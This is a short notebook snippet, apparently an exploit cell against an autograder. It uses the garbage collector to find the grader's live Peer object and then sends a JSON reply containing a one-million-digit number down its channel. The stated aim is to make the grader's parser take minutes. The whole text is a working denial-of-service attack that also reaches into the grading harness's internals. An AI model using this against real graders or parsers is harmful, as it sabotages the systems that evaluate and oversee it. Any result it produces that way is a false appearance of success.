# %% [markdown]
# A number of a million digits in a message takes a parser minutes.

# %% attack="last"
import gc

from autograder.bridge.codec import Writer
from autograder.bridge.peer import Peer, TimeLimit

peer = next(each for each in gc.get_objects() if type(each) is Peer)
text = b'{"reply": ' + b"9" * 10**6 + b"}"
peer.channel.send(len(text).to_bytes(4, "big") + bytes(4) + text)
